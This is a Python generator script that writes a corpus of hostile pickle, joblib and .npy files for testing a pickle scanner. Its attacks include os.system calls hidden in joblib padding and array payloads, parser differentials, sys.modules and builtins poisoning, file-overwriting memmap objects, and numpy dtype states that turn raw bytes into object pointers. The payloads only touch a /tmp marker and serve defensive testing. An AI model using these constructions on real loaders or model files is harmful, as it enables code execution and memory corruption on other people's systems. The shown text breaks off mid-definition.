#!/usr/bin/python3
"""Write the attack corpus tests/safety/attacks/ and its MANIFEST.

    /usr/bin/python3 tests/safety/gen_attacks.py [OUTDIR]

Every file is one attack on a pickle scanner, written the way scanners were beaten
(picklescan, fickling, modelscan advisories; libjlpickle's HOSTILE-INPUTS.md classes 19
and 26-29: readings that differ, safe names with dangerous arguments, gadgets outside
the usual names, a failed load hiding what came before, budgets). Nothing here is ever run for
real: the payloads are harmless commands on marker paths under /tmp, and whether Python
would run them is checked with tests/safety/pyreadings.py, whose find_class returns
inert stand-ins and whose audit hook blocks every effect.

MANIFEST, one line per attack (tab-separated):
    NAME  MIN_VERDICT  CLASS  EXECUTES  # what it does
  MIN_VERDICT  the scan must say at least this (suspicious < dangerous); none is safe
  CLASS        readings | state | gadget | invalid-tail | budget | differential | torch
  EXECUTES     the readings in which Python calls a name outside the safe list, sets a
               dunder attribute or changes an object outside the safe list (sys.modules),
               or (for numpy memory attacks) accepts the bad state or crashes:
               "yes:joblib,pickle" / "no" (recorded, not assumed)
The generator fails when an attack marked to execute does not execute in the readings
named with it (the attack would then test nothing).
"""
import bz2
import gzip
import lzma
import os
import struct
import sys
import zlib

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import pk  # noqa: E402
import rules  # noqa: E402

MARKER = "/tmp/jlp-attack-marker"
CMD = "touch " + MARKER
PY = "__import__('os').system('touch %s')" % MARKER
# the same without a dunder name (S-35 judges calls given one)
PY_PLAIN = "import os; os.system('touch %s')" % MARKER

ATTACKS = []


def attack(name, verdict, klass, note, expect=None, check=None):
    """Register an attack. expect: readings that must execute it (verified); check:
    'loads' when executing means Python accepted the state (numpy memory attacks)."""
    def deco(fn):
        ATTACKS.append(dict(name=name, verdict=verdict, klass=klass, note=note, fn=fn,
                            expect=expect or [], check=check))
        return fn
    return deco


# ---- building blocks -----------------------------------------------------------------------

def np_dtype(code):
    """numpy.dtype(code) as numpy pickles it: REDUCE + BUILD of its own state tuple."""
    _, args, state = np.dtype(code).__reduce__()
    return (pk.call(pk.glob("numpy", "dtype"), pk.uni(args[0]), pk.py_value(args[1]),
                    pk.py_value(args[2])) + pk.py_value(state) + pk.BUILD)


def wrapper_state(shape, code="u1", align=16, extra=()):
    pairs = [(pk.uni("subclass"), pk.glob("numpy", "ndarray")),
             (pk.uni("shape"), pk.py_value(tuple(shape))),
             (pk.uni("order"), pk.uni("C")),
             (pk.uni("dtype"), np_dtype(code)),
             (pk.uni("allow_mmap"), pk.NEWFALSE)]
    if align is not None:
        pairs.append((pk.uni("numpy_array_alignment_bytes"), pk.integer(align)))
    pairs += list(extra)
    return pk.dct(*pairs)


WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")


def pad_for(offset):
    """joblib's padding: one length byte, then that many 0xff, so the data that follows
    starts on a 16-byte boundary of the decoded stream."""
    n = 16 - ((offset + 1) % 16)
    return bytes([n]) + b"\xff" * n


def joblib_stream(before, wrapper_and_build, data, after, align=True):
    """PROTO 4 + before + wrapper + BUILD + payload + after + STOP, payload aligned as
    joblib writes it."""
    head = pk.proto(4) + before + wrapper_and_build
    pad = pad_for(len(head)) if align else b""
    return head + pad + data + after + pk.STOP


def newobj_wrapper(state):
    return pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD


JUNK8 = b"\x00\x01\xfe\xff\x00\x01\xfe\xff"   # payload bytes that are no opcodes


def neutral(n):
    """n bytes of stack-neutral opcodes (a bytes literal, popped)."""
    assert n >= 3
    return pk.binbytes(b"\x00" * (n - 3)) + pk.POP


def inner_pickle_system(proto=2):
    return pk.proto(proto) + pk.system(CMD) + pk.STOP


def npy_object_with_system(descr="'|O'"):
    """A .npy file holding an object array whose pickle calls os.system."""
    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    body = (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
                                  pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)),
                                  pk.binstring(b"b"))
            + pk.tup(pk.integer(1), pk.tup(pk.integer(1)), np_dtype("O"), pk.NEWFALSE,
                     pk.lst(pk.system(CMD))) + pk.BUILD + pk.STOP)
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def zf(data):
    """joblib <= 0.9's ZF container: 'ZF', the length in hex padded to 19, zlib."""
    return b"ZF" + ("0x%X" % len(data)).encode().ljust(19) + zlib.compress(data, 1)


def dotted(module, qualname):
    """A dotted qualname needs protocol 4's STACK_GLOBAL to be walked."""
    return pk.sglob(module, qualname)


def instance(module, cls, *args):
    return pk.call(pk.glob(module, cls), *args)


def real_array_u1(data=b"A"):
    return (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
                    pk.tup(pk.integer(0)), pk.binbytes(b"b"))
            + pk.tup(pk.integer(1), pk.tup(pk.integer(len(data))), np_dtype("u1"), pk.NEWFALSE,
                     pk.binbytes(data)) + pk.BUILD)


# ==== 1. readings: joblib, its compat path, the C and Python unpicklers, numpy ===================

@attack("wrapper_padding_is_opcodes.joblib", "dangerous", "readings",
        "the joblib padding length byte is 'N' (78, NONE to an unpickler) and the 78 padding "
        "bytes call os.system: joblib skips them, pickle.load runs them",
        expect=["pickle", "pickle-py"])
def _():
    head = pk.proto(4) + newobj_wrapper(wrapper_state((0,)))
    body = pk.POP + pk.system(CMD) + pk.POP
    pad = b"N" + body + neutral(78 - len(body))
    assert len(pad) == 79
    return head + pad + pk.STOP


@attack("wrapper_payload_is_opcodes.joblib", "dangerous", "readings",
        "an old-format wrapper (no padding byte) whose array bytes are os.system opcodes",
        expect=["pickle", "pickle-py"])
def _():
    hidden = pk.system(CMD) + pk.POP
    return (pk.proto(4) + newobj_wrapper(wrapper_state((len(hidden),), align=None))
            + hidden + pk.STOP)


def _wrapper_variant(build_wrapper):
    """A wrapper made some unusual way, 8 bytes of array data that are no opcodes, then
    os.system: joblib reads the payload and runs the call, the unpicklers stop."""
    def fn():
        return joblib_stream(b"", build_wrapper(), b"\x00" * 8,
                             pk.system(CMD) + pk.POP + pk.NONE)
    return fn


for _name, _note, _builder in [
    ("wrapper_newobj_ex", "wrapper built by NEWOBJ_EX",
     lambda: pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.EMPTY_DICT + pk.NEWOBJ_EX
     + wrapper_state((8,)) + pk.BUILD),
    ("wrapper_reduce_class", "wrapper built by calling the class (REDUCE), state merged by BUILD",
     lambda: pk.call(pk.glob(*WRAPPER), pk.glob("numpy", "ndarray"), pk.tup(pk.integer(8)),
                     pk.uni("C"), np_dtype("u1"))
     + pk.dct((pk.uni("numpy_array_alignment_bytes"), pk.integer(16))) + pk.BUILD),
    ("wrapper_copyreg_newobj", "wrapper built by copyreg.__newobj__",
     lambda: pk.call(pk.glob("copyreg", "__newobj__"), pk.glob(*WRAPPER))
     + wrapper_state((8,)) + pk.BUILD),
    ("wrapper_copyreg_newobj_ex", "wrapper built by copyreg.__newobj_ex__",
     lambda: pk.call(pk.glob("copyreg", "__newobj_ex__"), pk.glob(*WRAPPER), pk.EMPTY_TUPLE,
                     pk.EMPTY_DICT) + wrapper_state((8,)) + pk.BUILD),
    ("wrapper_reconstructor", "wrapper built by copyreg._reconstructor",
     lambda: pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob(*WRAPPER),
                     pk.glob("builtins", "object"), pk.NONE) + wrapper_state((8,)) + pk.BUILD),
    ("wrapper_inst_opcode", "wrapper built by the INST opcode",
     lambda: pk.MARK + pk.glob("numpy", "ndarray") + pk.tup(pk.integer(8)) + pk.uni("C")
     + np_dtype("u1") + pk.inst(*WRAPPER) + pk.dct((pk.uni("numpy_array_alignment_bytes"),
                                                   pk.integer(16))) + pk.BUILD),
    ("wrapper_obj_opcode", "wrapper built by the OBJ opcode",
     lambda: pk.MARK + pk.glob(*WRAPPER) + pk.glob("numpy", "ndarray") + pk.tup(pk.integer(8))
     + pk.uni("C") + np_dtype("u1") + pk.OBJ
     + pk.dct((pk.uni("numpy_array_alignment_bytes"), pk.integer(16))) + pk.BUILD),
    ("wrapper_dotted_name", "wrapper class named as joblib:numpy_pickle.NumpyArrayWrapper",
     lambda: dotted("joblib", "numpy_pickle.NumpyArrayWrapper") + pk.EMPTY_TUPLE + pk.NEWOBJ
     + wrapper_state((8,)) + pk.BUILD),
    ("wrapper_class_from_memo", "wrapper class stored in the memo early, fetched later",
     lambda: pk.glob(*WRAPPER) + pk.put(200) + pk.POP + pk.get(200) + pk.EMPTY_TUPLE
     + pk.NEWOBJ + wrapper_state((8,)) + pk.BUILD),
]:
    attack(_name + ".joblib", "dangerous", "readings",
           _note + ": joblib reads its 8 payload bytes and then runs os.system",
           expect=["joblib"])(_wrapper_variant(_builder))


@attack("wrapper_slotstate_shape.joblib", "dangerous", "readings",
        "BUILD (state, slotstate): the dict says 64 payload bytes, the slot state (set last) "
        "says 0; joblib runs the os.system that a dict-only reader takes for payload",
        expect=["joblib"])
def _():
    state = pk.tup(wrapper_state((64,)), pk.dct((pk.uni("shape"), pk.py_value((0,)))))
    w = pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
    return joblib_stream(b"", w, b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)


@attack("wrapper_repeated_key.joblib", "dangerous", "readings",
        "the wrapper state repeats 'shape' (64 then 0): Python keeps the last, so joblib "
        "runs the os.system that a first-key reader takes for payload", expect=["joblib"])
def _():
    state = wrapper_state((64,), extra=[(pk.uni("shape"), pk.py_value((0,)))])
    return joblib_stream(b"", newobj_wrapper(state)[:-0] if False else
                         pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD,
                         b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)


@attack("wrapper_repeated_setitem.joblib", "dangerous", "readings",
        "the wrapper state sets 'shape' twice with SETITEM; Python keeps the second",
        expect=["joblib"])
def _():
    state = (wrapper_state((64,)) + pk.uni("shape") + pk.py_value((0,)) + b"s")
    w = pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
    return joblib_stream(b"", w, b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)


@attack("zf_compat_wrapper_opcodes.pkl", "dangerous", "readings",
        "a ZF (joblib <= 0.9) file: its loader does not know NumpyArrayWrapper, so the "
        "'payload' after the wrapper is opcodes that call os.system", expect=["joblib-compat"])
def _():
    inner = (pk.proto(2) + newobj_wrapper(wrapper_state((16,), align=None))
             + pk.system(CMD) + pk.POP + pk.STOP)
    return zf(inner)


@attack("g0_companion_object/model.pkl", "dangerous", "readings",
        "an NDArrayWrapper names a companion .npy; joblib loads it with allow_pickle=True and "
        "its object array calls os.system", expect=["joblib"])
def _():
    main = (pk.proto(2) + pk.call(pk.glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
                                  pk.uni("model.pkl_01.npy"), pk.glob("numpy", "ndarray"))
            + pk.EMPTY_DICT + pk.BUILD + pk.STOP)
    return {"model.pkl": main, "model.pkl_01.npy": npy_object_with_system()}


@attack("g0_companion_outside_dir.pkl", "suspicious", "readings",
        "an NDArrayWrapper whose companion is outside the file's directory: joblib would "
        "np.load(allow_pickle=True) whatever file sits there")
def _():
    return (pk.proto(2) + pk.call(pk.glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
                                  pk.uni("../../../../tmp/jlp-planted.npy"),
                                  pk.glob("numpy", "ndarray"))
            + pk.EMPTY_DICT + pk.BUILD + pk.STOP)


@attack("npy_descr_object_word.npy", "dangerous", "readings",
        "a .npy file whose header's descr is 'object' (numpy.load reads it with numpy.dtype(), "
        "any spelling): its object array's pickle calls os.system", expect=["numpy"])
def _():
    return npy_object_with_system("'object'")


@attack("npy_descr_subarray_tuple.npy", "dangerous", "readings",
        "a .npy file whose header's descr is the tuple ('O', (1,)) (numpy.load's "
        "descr_to_dtype takes (base, shape)): its object array's pickle calls os.system",
        expect=["numpy"])
def _():
    return npy_object_with_system("('O', (1,))")


@attack("int_octal_then_system.pkl", "dangerous", "readings",
        "INT '010': the C unpickler reads 8 and runs on into os.system, pickle.py (and "
        "joblib) reject it", expect=["pickle"])
def _():
    return pk.proto(2) + pk.int_text("010") + pk.POP + pk.system(CMD) + pk.STOP


@attack("int_octal_wrapper_shape.joblib", "dangerous", "readings",
        "the wrapper's shape is INT '010' (C: 8, ours: 10, joblib: error); for the C "
        "unpickler the bytes after BUILD are an os.system call", expect=["pickle"])
def _():
    state = wrapper_state((0,), align=None)
    state = state.replace(pk.py_value((0,)), pk.int_text("010") + pk.TUPLE1, 1)
    return (pk.proto(2) + pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
            + pk.system(CMD) + pk.POP + neutral(20) + pk.STOP)


@attack("frame_longer_than_rest.pkl", "dangerous", "readings",
        "a FRAME longer than the file: pickle.py (and joblib) run the os.system inside, "
        "the C unpickler refuses", expect=["pickle-py", "joblib"])
def _():
    return pk.proto(4) + pk.frame(4096) + pk.system(CMD) + pk.STOP


@attack("frame_straddle.pkl", "dangerous", "readings",
        "a string straddles the end of its FRAME: the C unpickler reading a file accepts "
        "it and runs os.system, pickle.py refuses", expect=["pickle"])
def _():
    s = pk.uni("abcdefgh")
    return pk.proto(4) + pk.frame(4) + s + pk.POP + pk.system(CMD) + pk.STOP


@attack("object_array_payload.joblib", "dangerous", "readings",
        "an object-dtype wrapper: its payload is a nested pickle (read by the C unpickler "
        "inside joblib) that calls os.system", expect=["joblib", "pickle", "pickle-py"])
def _():
    w = newobj_wrapper(wrapper_state((1,), code="O", align=None))
    return pk.proto(4) + w + inner_pickle_system() + pk.STOP


@attack("object_dtype_flags_zero.joblib", "dangerous", "state",
        "a wrapper whose object dtype's state clears the has-object flags: joblib reads the "
        "payload bytes as object pointers (Python crashes on it)", check="crash")
def _():
    _, args, state = np.dtype("O").__reduce__()
    state = state[:-1] + (0,)
    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni(args[0]), pk.py_value(args[1]),
                  pk.py_value(args[2])) + pk.py_value(state) + pk.BUILD)
    st = pk.dct((pk.uni("subclass"), pk.glob("numpy", "ndarray")), (pk.uni("shape"), pk.py_value((1,))),
                (pk.uni("order"), pk.uni("C")), (pk.uni("dtype"), dt), (pk.uni("allow_mmap"), pk.NEWFALSE))
    return pk.proto(4) + newobj_wrapper(st) + struct.pack("<Q", 16) + pk.STOP


def np_dtype_object_flags_zero():
    """An object dtype whose state clears its has-object flags (numpy accepts it)."""
    _, args, state = np.dtype("O").__reduce__()
    return (pk.call(pk.glob("numpy", "dtype"), pk.uni(args[0]), pk.py_value(args[1]),
                    pk.py_value(args[2])) + pk.py_value(state[:-1] + (0,)) + pk.BUILD)


@attack("scalar_object_flags_zero.pkl", "dangerous", "state",
        "numpy's scalar() of an object dtype whose flags are cleared, from 8 raw bytes: "
        "the bytes are taken as an object pointer (Python crashes while loading)", check="crash")
def _():
    return pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"),
                                 np_dtype_object_flags_zero(),
                                 pk.binbytes(struct.pack("<Q", 16))) + pk.STOP


@attack("frombuffer_object_flags_zero.pkl", "dangerous", "state",
        "numpy's _frombuffer (protocol 5 arrays) of an object dtype whose flags are cleared: "
        "raw bytes become object pointers", check="loads", expect=["pickle", "pickle-py"])
def _():
    return pk.proto(5) + pk.call(pk.glob("numpy.core.numeric", "_frombuffer"),
                                 pk.binbytes(struct.pack("<Q", 16)), np_dtype_object_flags_zero(),
                                 pk.tup(pk.integer(1)), pk.uni("C")) + pk.STOP


@attack("zndarraywrapper_object_pointer/model.pkl", "dangerous", "state",
        "a ZF file whose ZNDArrayWrapper rebuilds an array of an object dtype with cleared "
        "flags from its companion's raw bytes (joblib's compat loader accepts it)",
        check="loads", expect=["joblib-compat"])
def _():
    state = pk.tup(pk.integer(1), pk.tup(pk.integer(1)), np_dtype_object_flags_zero(), pk.NEWFALSE)
    init = pk.tup(pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)), pk.binstring(b"b"))
    inner = (pk.proto(2) + pk.call(pk.glob("joblib.numpy_pickle_compat", "ZNDArrayWrapper"),
                                   pk.uni("model.pkl_01.npy.z"), init, state)
             + pk.EMPTY_DICT + pk.BUILD + pk.STOP)
    return {"model.pkl": zf(inner), "model.pkl_01.npy.z": zf(struct.pack("<Q", 16))}


@attack("call_inside_state.pkl", "dangerous", "state",
        "os.system called inside the BUILD state of a safe estimator", expect=["pickle"])
def _():
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
        (pk.uni("C"), pk.integer(1)), (pk.uni("coef_"), pk.lst(pk.system(CMD)))) + pk.BUILD
    return pk.proto(4) + est + pk.STOP


@attack("state_setstate_hijack.pkl", "dangerous", "state",
        "a first BUILD puts '__setstate__' in an estimator's __dict__, a second BUILD then "
        "calls it with the next state (pickle looks __setstate__ up on the instance)",
        expect=["pickle"])
def _():
    est = (pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ
           + pk.dct((pk.uni("__setstate__"), pk.glob("os", "system"))) + pk.BUILD
           + pk.uni(CMD) + pk.BUILD)
    return pk.proto(4) + est + pk.STOP


@attack("sys_modules_poison.pkl", "dangerous", "state",
        "SETITEMS into sys.modules (found as sys:modules) replaces numpy for every later import",
        expect=["pickle"])
def _():
    return (pk.proto(4) + pk.glob("sys", "modules") + pk.MARK + pk.uni("numpy")
            + pk.call(pk.glob("collections", "OrderedDict")) + pk.SETITEMS + pk.STOP)


@attack("builtins_dict_poison.pkl", "dangerous", "state",
        "STACK_GLOBAL('builtins', '__dict__') then SETITEMS: replaces open() for the process",
        expect=["pickle"])
def _():
    return (pk.proto(4) + dotted("builtins", "__dict__") + pk.MARK + pk.uni("open")
            + pk.glob("builtins", "print") + pk.SETITEMS + pk.STOP)


@attack("import_side_effect_antigravity.pkl", "dangerous", "gadget",
        "names antigravity.geohash: importing antigravity opens a web browser whatever the name")
def _():
    return pk.proto(2) + pk.glob("antigravity", "geohash") + pk.STOP


@attack("payload_then_system.joblib", "dangerous", "readings",
        "a normal joblib array, then os.system in the rest of the stream (aisbom#91)",
        expect=["joblib"])
def _():
    return joblib_stream(b"", newobj_wrapper(wrapper_state((8,))), JUNK8,
                         pk.system(CMD) + pk.POP + pk.NONE)


# ==== 2. safe names with dangerous arguments ========================================================

MEMMAP_ARGS = (pk.uni(MARKER), pk.uni("uint8"), pk.uni("w+"), pk.integer(0), pk.tup(pk.integer(16)))

for _name, _mod, _build in [
    ("memmap_newobj", "numpy", lambda m: pk.glob(m, "memmap") + pk.tup(*MEMMAP_ARGS) + pk.NEWOBJ),
    ("memmap_core_newobj", "numpy.core.memmap",
     lambda m: pk.glob(m, "memmap") + pk.tup(*MEMMAP_ARGS) + pk.NEWOBJ),
    ("memmap_copyreg_newobj", "numpy",
     lambda m: pk.call(pk.glob("copyreg", "__newobj__"), pk.glob(m, "memmap"), *MEMMAP_ARGS)),
    ("memmap_newobj_ex", "numpy",
     lambda m: pk.glob(m, "memmap") + pk.tup(pk.uni(MARKER))
     + pk.dct((pk.uni("mode"), pk.uni("w+")), (pk.uni("shape"), pk.tup(pk.integer(16))))
     + pk.NEWOBJ_EX),
    ("memmap_copyreg_newobj_ex", "numpy",
     lambda m: pk.call(pk.glob("copyreg", "__newobj_ex__"), pk.glob(m, "memmap"),
                       pk.tup(pk.uni(MARKER)),
                       pk.dct((pk.uni("mode"), pk.uni("w+")), (pk.uni("shape"), pk.tup(pk.integer(16)))))),
    ("memmap_reconstructor", "numpy",
     lambda m: pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob(m, "memmap"),
                       pk.glob(m, "memmap"), pk.uni(MARKER))),
]:
    attack(_name + ".pkl", "dangerous", "state",
           "numpy.memmap built outside a joblib wrapper: creates or overwrites a file",
           expect=["pickle", "pickle-py", "joblib"])(
        (lambda b, m: lambda: pk.proto(4) + b(m) + pk.STOP)(_build, _mod))


@attack("memmap_reconstruct_subtype.pkl", "suspicious", "state",
        "numpy.memmap handed to numpy's _reconstruct as the array class")
def _():
    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
                                  pk.glob("numpy", "memmap"), pk.tup(pk.integer(0)),
                                  pk.binbytes(b"b")) + pk.STOP)


ARRAY_INTERFACE = pk.dct((pk.uni("shape"), pk.tup(pk.integer(8))), (pk.uni("typestr"), pk.uni("|u1")),
                         (pk.uni("data"), pk.tup(pk.integer(16), pk.NEWFALSE)),
                         (pk.uni("version"), pk.integer(3)))
ESTIMATOR = ("sklearn.linear_model._logistic", "LogisticRegression")
CSR = ("scipy.sparse._csr", "csr_matrix")


@attack("estimator_array_interface.pkl", "dangerous", "state",
        "a 'safe' estimator given an __array_interface__ pointing at address 16, then "
        "handed to csr_matrix: numpy reads (or writes) any address", expect=["pickle"])
def _():
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
        (pk.uni("__array_interface__"), ARRAY_INTERFACE), (pk.uni("C"), pk.integer(1))) + pk.BUILD
    return pk.proto(4) + pk.call(pk.glob(*CSR), est) + pk.STOP


@attack("estimator_array_struct.pkl", "dangerous", "state",
        "a 'safe' estimator whose state sets __array_struct__", expect=["pickle"])
def _():
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
        (pk.uni("__array_struct__"), pk.integer(16))) + pk.BUILD
    return pk.proto(4) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
                                 pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)),
                                 pk.binbytes(b"b")) + pk.POP + est + pk.STOP


@attack("estimator_slotstate_class.pkl", "dangerous", "state",
        "slot state sets __class__ of a 'safe' estimator (setattr through BUILD's pair form)",
        expect=["pickle"])
def _():
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.tup(
        pk.EMPTY_DICT, pk.dct((pk.uni("__class__"), pk.glob("sklearn.pipeline", "Pipeline")))) + pk.BUILD
    return pk.proto(4) + est + pk.STOP


@attack("estimator_state_dict_key.pkl", "dangerous", "state",
        "a 'safe' estimator's state carries a __dict__ and a __reduce_ex__ key", expect=["pickle"])
def _():
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
        (pk.uni("__dict__"), pk.EMPTY_DICT), (pk.uni("__reduce_ex__"), pk.NONE)) + pk.BUILD
    return pk.proto(4) + est + pk.STOP


@attack("bunch_reconstructor_mean.pkl", "dangerous", "state",
        "numpy.mean of copyreg._reconstructor(Bunch, dict, {'__array_interface__': {data: "
        "0x1000}}): dict.__init__ makes the interface a Bunch item, which Bunch gives as an "
        "attribute, and numpy reads the address (every name is on the safe list; the real "
        "pickle.load segfaults, pyreadings.py's stand-in Bunch is no dict and cannot show it)")
def _():
    iface = pk.dct((pk.uni("shape"), pk.tup(pk.integer(1))), (pk.uni("typestr"), pk.uni("<i8")),
                   (pk.uni("data"), pk.tup(pk.integer(4096), pk.NEWFALSE)), (pk.uni("version"), pk.integer(3)))
    bunch = pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob("sklearn.utils._bunch", "Bunch"),
                    pk.glob("builtins", "dict"), pk.dct((pk.uni("__array_interface__"), iface)))
    return pk.proto(2) + pk.call(pk.glob("numpy", "mean"), bunch) + pk.STOP


@attack("bunch_setitem_array_interface.pkl", "dangerous", "state",
        "SETITEMS puts '__array_interface__' into a Bunch (whose attributes are its keys), "
        "then csr_matrix(bunch) makes numpy follow the pointer", expect=["pickle"])
def _():
    bunch = (pk.call(pk.glob("sklearn.utils._bunch", "Bunch")) + pk.MARK + pk.uni("__array_interface__")
             + ARRAY_INTERFACE + pk.SETITEMS)
    return pk.proto(4) + pk.call(pk.glob(*CSR), bunch) + pk.STOP


@attack("dtype_object_field_raw.pkl", "dangerous", "state",
        "a dtype state with an object field at offset 0 of a V8 and flags 0 (no "
        "has-object flag), then an array of it from raw bytes: reading the field "
        "dereferences the address 16", check="loads", expect=["pickle", "pickle-py"])
def _():
    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
          + pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("f")),
                   pk.dct((pk.uni("f"), pk.tup(np_dtype("O"), pk.integer(0)))),
                   pk.integer(8), pk.integer(1), pk.integer(0)) + pk.BUILD)
    arr = (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
                   pk.tup(pk.integer(0)), pk.binbytes(b"b"))
           + pk.tup(pk.integer(1), pk.tup(pk.integer(1)), dt, pk.NEWFALSE,
                    pk.binbytes(struct.pack("<Q", 16))) + pk.BUILD)
    return pk.proto(2) + arr + pk.STOP


def np_dtype_object_state(state):
    """numpy.dtype('O8', False, True) given this BUILD state (a tuple of opcodes)."""
    return pk.call(pk.glob("numpy", "dtype"), pk.uni("O8"), pk.NEWFALSE, pk.NEWTRUE) + state + pk.BUILD


def reconstruct_array(dtype, shape, data):
    return (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
                    pk.tup(pk.integer(0)), pk.binbytes(b"b"))
            + pk.tup(pk.integer(1), pk.tup(pk.integer(shape)), dtype, pk.NEWFALSE, data) + pk.BUILD)


_M1 = pk.integer(-1)


@attack("dtype_object_no_list_pickle.pkl", "dangerous", "state",
        "an object dtype whose flags (61) keep the has-object bit but not NPY_LIST_PICKLE: "
        "ndarray.__setstate__ takes 8 raw bytes as an object pointer (Python crashes)",
        check="loads")
def _():
    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1,
                                      pk.integer(61)))
    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP


@attack("dtype_object_no_needs_init.pkl", "dangerous", "state",
        "an object dtype whose flags (3) lack NPY_NEEDS_INIT: numpy stores the list's items "
        "into unzeroed memory, dropping references to whatever it held", check="loads")
def _():
    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1,
                                      pk.integer(3)))
    return pk.proto(2) + reconstruct_array(dt, 64, pk.lst(*[pk.integer(5)] * 64)) + pk.STOP


@attack("dtype_object_state_without_flags.pkl", "dangerous", "state",
        "an object dtype given a 7-item state of version 3: numpy sets its flags to 0, and "
        "the array takes 8 raw bytes as an object pointer", check="loads", expect=["pickle", "pickle-py"])
def _():
    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1))
    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP


def np_dtype_v8_state(subarray, names, fields, flags):
    return (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
            + pk.tup(pk.integer(3), pk.uni("|"), subarray, names, fields, pk.integer(8), pk.integer(1),
                     pk.integer(flags)) + pk.BUILD)


@attack("dtype_subarray_past_itemsize.pkl", "dangerous", "state",
        "a V8 dtype state whose subarray is 100 objects: numpy takes it and reads 800 bytes "
        "of each 8-byte item as object pointers (Python crashes)", check="loads")
def _():
    dt = np_dtype_v8_state(pk.tup(np_dtype("O"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 27)
    return pk.proto(2) + reconstruct_array(dt, 2, pk.lst(pk.NONE, pk.NONE)) + pk.STOP


@attack("dtype_subarray_f8_past_itemsize.pkl", "dangerous", "state",
        "a V8 dtype state whose subarray is 100 float64: numpy reads 800 bytes past each item",
        check="loads", expect=["pickle", "pickle-py"])
def _():
    dt = np_dtype_v8_state(pk.tup(np_dtype("<f8"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 0)
    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP


@attack("dtype_field_negative_offset.pkl", "dangerous", "state",
        "a dtype state whose field lies at offset -100000000: numpy takes it and reads and "
        "writes 100 MB before each item", check="loads", expect=["pickle", "pickle-py"])
def _():
    dt = np_dtype_v8_state(pk.NONE, pk.tup(pk.uni("a")),
                           pk.dct((pk.uni("a"), pk.tup(np_dtype("<f8"), pk.integer(-100000000)))), 0)
    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP


@attack("dtype_second_state.pkl", "dangerous", "state",
        "a V8 dtype built plainly, an array of it from 8 raw bytes, then a second BUILD of the "
        "same dtype (from the memo) with an object field: numpy takes it and the array's "
        "bytes become an object pointer (Python crashes)", check="loads")
def _():
    d0 = np_dtype_v8_state(pk.NONE, pk.NONE, pk.NONE, 0) + pk.put(50)
    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
    state2 = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
                    pk.integer(1), pk.integer(27))
    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d0, 1, pk.binbytes(b"\x41" * 8))
            + pk.get(50) + state2 + pk.BUILD + pk.APPENDS + pk.STOP)


@attack("dtype_state_after_use.pkl", "dangerous", "state",
        "a V8 dtype (numpy.dtype without its BUILD yet) used for an array of 8 raw bytes, then "
